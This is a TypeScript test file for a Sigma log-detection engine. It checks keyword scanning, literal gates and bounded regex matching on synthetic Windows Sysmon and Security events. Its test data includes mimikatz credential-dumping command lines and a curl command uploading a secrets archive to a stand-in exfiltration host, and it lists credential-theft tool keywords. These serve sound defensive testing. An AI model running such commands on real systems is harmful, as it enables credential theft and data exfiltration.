/**
 * Keyword scanning and regex engines of the Sigma matcher (sigma/fields.ts keywordHaystack,
 * sigma/literal-gate.ts, detect/safe-regex.ts backtrackWork): faster paths that must decide
 * exactly what the slow ones did. Each case compares the engine (index, gate, native regex)
 * with every rule evaluated on its own, on Sysmon and Security records shaped like the agent's.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import type { LogEvent } from '../../alert-service/src/generated/schema-types.js';
import { compileSigmaDocuments } from '../../alert-service/src/detect/sigma/load.js';
import { keywordHaystack } from '../../alert-service/src/detect/sigma/fields.js';
import { literalCover, literalGate } from '../../alert-service/src/detect/sigma/literal-gate.js';
import { requiredLiteral } from '../../alert-service/src/detect/sigma/detection.js';
import { backtrackWork, compileSafeRegex, MAX_BACKTRACK_WORK } from '../../alert-service/src/detect/safe-regex.js';
import { DetectionEngine, DEFAULT_LIMITS } from '../../alert-service/src/detect/engine.js';
import type { CompiledRule } from '../../alert-service/src/detect/compiled.js';
import { CollectSink, ManualClock, T0, win } from './helpers.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function rules(yamls: string[]): CompiledRule[] {
  const docs = yamls.map((y, i) => ({ file: `r${i}.yml`, doc: parse(y) as Record<string, unknown> }));
  const { rules: out, skipped } = compileSigmaDocuments(docs, { defaultQuietSec: 900 });
  assert.deepEqual(skipped, []);
  return out;
}

const rule = (id: string, logsource: string, detection: string) => `title: ${id}\nid: ${id}\nlogsource: ${logsource}\ndetection:\n${detection}\nlevel: high`;

/** What the engine fires per event (one fresh engine per event: no quiet period in between). */
function fired(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) => {
    const sink = new CollectSink();
    new DetectionEngine(rs, sink, new ManualClock(Date.UTC(2030, 0, 1)), DEFAULT_LIMITS).process([e]);
    return sink.signals.map((s) => s.rule_id).sort();
  });
}

/** Each rule on its own, no index: scope and detection. */
function expected(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) =>
    rs.filter((r) => (!r.kinds || r.kinds.has(e.source.kind)) && (!r.channels || (e.source.channel !== undefined && r.channels.has(e.source.channel.toLowerCase()))) && (!r.eventIds || (e.fields.event_id !== undefined && r.eventIds.has(e.fields.event_id))) && r.evaluate(e) !== null).map((r) => r.id).sort(),
  );
}

const proc = (data: Record<string, string>, message = '') => ({
  ...win(T0, 1, SYSMON, { UtcTime: '2026-11-21 10:00:00.000', ProcessGuid: '{9b2c1f3e-1a2b-6553-0b00-000000000a00}', Image: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', Hashes: 'SHA1=2A4B6C8D0E1F2A4B6C8D0E1F2A4B6C8D0E1F2A4B,MD5=0123456789ABCDEF0123456789ABCDEF', ParentImage: 'C:\\Windows\\System32\\services.exe', ...data }),
  message,
});

test('keyword rules: found in the message or any EventData value, in any case, on channel-wide and channel-less rules; never across two values', () => {
  const rs = rules([
    // SigmaHQ's mimikatz keywords: every Windows channel (no service), through the haystack and its gate.
    rule('mimikatz', '{product: windows}', '  keywords:\n    - "sekurlsa::"\n    - "gentilkiwi.com"\n    - "\\\\mimilib.dll"\n    - "Kiwi Legit Printer"\n  filter:\n    EventID: 15\n  condition: keywords and not filter'),
    // A keyword rule on one channel: indexed, woken by the bucket's keyword automaton.
    rule('sysmon-kw', '{product: windows, service: sysmon}', '  keywords:\n    - "Sysmon config state changed"\n  condition: keywords'),
    // A keyword holding a newline: the joined text must not join two values into a match.
    rule('two-lines', '{product: windows, service: sysmon}', '  keywords:\n    - "alpha\\nbeta"\n  condition: keywords'),
  ]);
  const events = [
    proc({ CommandLine: 'mimikatz.exe "privilege::debug" "SEKURLSA::logonpasswords" exit' }), // upper case in a value
    proc({}, 'Process Create: loaded C:\\Temp\\MIMILIB.DLL'), // in the message
    proc({ Description: 'Kiwi Legit Printer driver' }), // a value other than the ones rules name
    proc({ CommandLine: 'net use \\\\gentilkiwi.co m' }), // split: no match
    { ...win(T0, 15, SYSMON, { TargetFilename: 'C:\\Users\\bob\\Downloads\\sekurlsa::.txt' }) }, // filtered EventID
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Temp\\x.exe', CommandLine: 'x.exe sekurlsa::pth' }), // another channel
    win(T0, 7045, 'System', { ServiceName: 'mimidrv', ImagePath: 'MimiLib.dll' }), // no backslash before it: not the keyword
    win(T0, 16, SYSMON, { Configuration: 'C:\\sysmon.xml' }, {}), // keyword absent
    { ...win(T0, 16, SYSMON, { Configuration: 'C:\\sysmon.xml' }), message: 'SYSMON CONFIG STATE CHANGED' },
    proc({ CommandLine: 'echo alpha', Description: 'beta' }), // "alpha" ends one value, "beta" starts the next
    proc({ CommandLine: 'echo alpha\nbeta' }), // the newline inside one value
  ];
  const want = [['mimikatz'], ['mimikatz'], ['mimikatz'], [], [], ['mimikatz'], [], [], ['sysmon-kw'], [], ['two-lines']];
  assert.deepEqual(fired(rs, events), want);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('the keyword haystack is the message and every EventData string, lower-cased, one per event', () => {
  const e = { ...win(T0, 1, SYSMON, { Image: 'C:\\X.EXE', ProcessId: 42, Empty: '' }), message: 'Process Create' };
  assert.equal(keywordHaystack(e), 'process create\nc:\\x.exe');
  assert.equal(keywordHaystack(e), keywordHaystack(e));
  const other = { ...e, message: 'ΣΟΦΟΣ' }; // final sigma: lower-cased as if alone
  assert.equal(keywordHaystack(other), 'σοφος\nc:\\x.exe');
});

test('a literal cover holds a part of every literal; the gate is false only when no literal is in the text', () => {
  const mimikatz = ['dpapi::masterkey', 'eo.oe.kiwi', 'event::clear', 'gentilkiwi.com', 'kerberos::golden', 'kiwi legit printer', 'lsadump::', 'mimidrv.sys', '\\mimilib.dll', 'sekurlsa::'];
  const cover = literalCover(mimikatz)!;
  assert.ok(cover.length <= 4, JSON.stringify(cover));
  for (const l of mimikatz) assert.ok(cover.some((c) => l.includes(c)), l);
  const gate = literalGate(mimikatz)!;
  assert.equal(gate('c:\\windows\\system32\\svchost.exe -k netsvcs'), false);
  assert.equal(gate('mimikatz # sekurlsa::logonpasswords'), true);
  assert.equal(literalCover(['a', 'bc']), null); // a one-character literal: no gate
  assert.equal(literalCover(Array.from({ length: 30 }, (_, i) => `${String.fromCharCode(97 + (i % 26))}${i}x${i}`)), null); // no small cover
});

test('regexes without an unbounded quantifier run on the backtracking engine with the same verdicts; the others stay linear', () => {
  for (const [source, work] of [['\\s-[FTd]\\s', 4], ['\\n\\n\\n', 3], ['(foo|bar)baz', 12], ['(a|b){4}', 64]] as const) {
    assert.equal(backtrackWork(source), work, source);
    assert.equal(compileSafeRegex(source).flags.includes('l'), false, source);
  }
  for (const source of ['a.*b', '\\d+x', '(\\s*\\d{1,3}\\s*,){2}', 'x{2,}', '[a-z]{1,4}[0-9]+']) {
    assert.ok(backtrackWork(source) > MAX_BACKTRACK_WORK, source);
    assert.ok(compileSafeRegex(source).flags.includes('l'), source);
  }
  // The same answers as the linear engine, case-sensitive and with |re|i (lower-cased input).
  const texts = ['curl -F "a=@x" http://e', 'curl -f http://e', 'CURL -T x', 'a\n\n\nb', 'FOOBAZ', 'foobaz', 'abab', 'ab\tab'];
  for (const [source, flags] of [['\\s-[FTd]\\s', ''], ['\\n\\n\\n', ''], ['(foo|bar)baz', 'i'], ['(a|b){4}', ''], ['[ab]\\t[ab]', 'i']] as const) {
    const fast = compileSafeRegex(source, flags);
    const linear = new RegExp(source, 'l'); // the patterns' literals are lower-case already
    for (const t of texts) assert.equal(fast.test(t), linear.test(flags.includes('i') ? t.toLowerCase() : t), `/${source}/${flags} on ${JSON.stringify(t)}`);
  }
  // Pathological input for an accepted pattern stays fast: bounded work per position.
  const t0 = process.hrtime.bigint();
  compileSafeRegex('(a|aa){4}b').test('a'.repeat(8192));
  assert.ok(Number(process.hrtime.bigint() - t0) < 2e9);
});

test('a regex rule keyed on control-character escapes and a one-character class still fires, and only where it should', () => {
  assert.equal(requiredLiteral('\\n\\n\\n', 1), '\n\n\n');
  assert.equal(requiredLiteral('\\x41b\\u0043', 1), 'AbC');
  const rs = rules([
    rule('lnk-hidden', '{product: windows, category: process_creation}', '  sel:\n    CommandLine|re: "\\\\n\\\\n\\\\n\\\\n"\n  condition: sel'),
    rule('curl-upload', '{product: windows, category: process_creation}', '  img:\n    Image|endswith: "\\\\curl.exe"\n  cli:\n    CommandLine|re: "\\\\s-[FTd]\\\\s"\n  condition: img and cli'),
  ]);
  const events = [
    proc({ CommandLine: 'cmd.exe /c "\n\n\n\nstart evil.exe"' }),
    proc({ CommandLine: 'cmd.exe /c "\n\nstart evil.exe"' }),
    proc({ Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -F "file=@C:\\secrets.zip" https://exfil.example' }),
    proc({ Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -f https://example.com' }), // -f is not -F: the regex is case-sensitive
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -T report.pdf ftp://x' }),
  ];
  assert.deepEqual(fired(rs, events), [['lnk-hidden'], [], ['curl-upload'], [], ['curl-upload']]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});
